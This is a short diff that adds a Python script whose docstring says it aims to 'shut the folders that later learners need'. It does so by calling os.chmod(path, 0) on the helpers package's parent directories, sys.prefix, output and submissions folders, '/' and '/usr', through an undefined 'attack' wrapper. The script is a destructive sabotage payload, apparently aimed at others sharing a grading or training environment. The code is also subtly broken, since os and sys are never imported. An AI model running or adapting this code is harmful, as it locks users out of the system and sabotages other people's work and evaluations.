@@ -1,0 +1,8 @@
+"""Shut the folders that later learners need: chmod 0 for the parents of the own one, the packages, the reports."""
+
+# %%
+import helpers
+
+paths = [os.path.dirname(helpers.__file__), os.path.dirname(os.path.dirname(helpers.__file__)), sys.prefix]
+paths += ["OUT_FOLDER", "SUBMISSIONS_FOLDER", "/", "/usr"]
+attack(*[lambda path=path: os.chmod(path, 0) for path in paths])
